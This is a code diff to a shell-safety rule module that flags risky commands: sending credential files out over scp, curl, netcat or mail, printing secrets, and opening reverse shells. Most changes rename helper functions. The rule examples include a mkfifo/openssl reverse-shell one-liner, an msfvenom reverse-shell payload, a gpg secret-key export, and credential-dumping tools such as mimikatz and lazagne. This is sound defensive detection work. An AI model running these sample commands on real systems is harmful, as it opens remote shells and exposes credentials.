@@ -8,7 +8,7 @@ from collections.abc import Iterator
 from perdure.tools.shell_safety.interpreters import SHELLS
 from perdure.tools.shell_safety.invocation import Invocation
 from perdure.tools.shell_safety.rules.remote import is_local
-from perdure.tools.shell_safety.rules.rule import RiskRule, asks_help
+from perdure.tools.shell_safety.rules.rule import RiskRule, is_help
 from perdure.tools.shell_safety.types import DOWNLOADED, SECRET, Danger
 
 # Programs that take a key file without showing it.
@@ -107,11 +107,11 @@ def secret_dangers(run: Invocation) -> Iterator[Danger]:
     """A credential's file named to a program that shows it, or a secret on its way out."""
     if run.name not in _USES_KEYS:
         for path in (*_paths(run), *run.reads):
-            if run.places.holds_secret(path):
-                yield Danger("credentials", run.shown)
+            if run.zones.is_credential(path):
+                yield Danger("credentials", run.summary)
                 return
     if run.name in _SENDERS and not _goes_nowhere(run) and _sends_secret(run):
-        yield Danger("credentials", run.shown)
+        yield Danger("credentials", run.summary)
 
 
 def _paths(run: Invocation) -> Iterator[str]:
@@ -131,18 +131,18 @@ def _sends_secret(run: Invocation) -> bool:
     if run.name in ("scp", "rsync", "rclone", "aws", "gsutil", "sftp"):
         sources = [o for o in run.operands[:-1] if ":" not in o]
         to_remote = any(re.search(r"\w:|://", o) for o in run.operands[-1:])
-        return to_remote and any(run.places.is_private(s) for s in sources)
+        return to_remote and any(run.zones.is_private(s) for s in sources)
     if run.stdin and SECRET in run.stdin and (run.name not in ("curl", "wget") or _takes_stdin(run)):
         return True
     if run.name in _NETCATS | {"mail", "mailx", "mutt", "sendmail", "ftp", "tftp"}:
-        return any(run.places.is_private(p) for p in (*run.reads, *run.operands))
+        return any(run.zones.is_private(p) for p in (*run.reads, *run.operands))
     uploaded = run.value_of("-T", "--upload-file", "--post-file")
     for value in run.all_values_of(*_DATA_OPTIONS):
         path = re.sub(r"^(?:[\w-]+=)?[@<]?", "", value)
-        if SECRET in value or (("@" in value or value == uploaded) and run.places.is_private(path)):
+        if SECRET in value or (("@" in value or value == uploaded) and run.zones.is_private(path)):
             return True
     return any(SECRET in o for o in run.operands if re.match(r"https?://|\w+\.\w+", o)) or any(
-        "@" in o and run.places.is_private(o.partition("@")[2]) for o in run.operands
+        "@" in o and run.zones.is_private(o.partition("@")[2]) for o in run.operands
     )
 
 
@@ -154,7 +154,7 @@ def _takes_stdin(run: Invocation) -> bool:
 
 
 def _netcat_shell(run: Invocation) -> bool:
-    if asks_help(run):
+    if is_help(run):
         return False
     return run.has("-e", "--exec", "--sh-exec") or (run.name in ("ncat", "nc") and run.has("-c")) or _feeds_shell(run)
 
@@ -224,7 +224,7 @@ def _prints_credential(run: Invocation) -> bool:
     if run.name in ("kubectl", "oc"):
         is_secret = any(re.match(r"secrets?(?:/|\Z)", w) for w in words[1:3])
         return words[:1] == ("get",) and is_secret and run.has("-o", "--output", "--template")
-    return not asks_help(run) and any(words[: len(start)] == start for start in _PRINTS_CREDENTIAL[run.name])
+    return not is_help(run) and any(words[: len(start)] == start for start in _PRINTS_CREDENTIAL[run.name])
 
 
 def _asks_metadata(run: Invocation) -> bool:
@@ -237,7 +237,7 @@ def _searches_a_home(run: Invocation) -> bool:
     reads_hidden = run.has("--hidden", "-u", "-uu", "-uuu", "--unrestricted", "-.")
     if not (reads_hidden if run.name in ("rg", "ag") else is_recursive):
         return False
-    return any(run.places.holds_home(o) for o in run.operands[1:])
+    return any(run.zones.contains_home(o) for o in run.operands[1:])
 
 
 RULES = (
@@ -260,7 +260,7 @@ RULES = (
         "mkfifo p; sh -i < p | openssl s_client -connect h:1 > p",
     ),
     RiskRule(
-        "reverse-shell", "msfvenom msfconsole", lambda r: not asks_help(r), "msfvenom -p linux/x64/shell_reverse_tcp"
+        "reverse-shell", "msfvenom msfconsole", lambda r: not is_help(r), "msfvenom -p linux/x64/shell_reverse_tcp"
     ),
     RiskRule("credentials", "gpg security mimikatz secretsdump.py lazagne", _reveals, "gpg --export-secret-keys me"),
 )
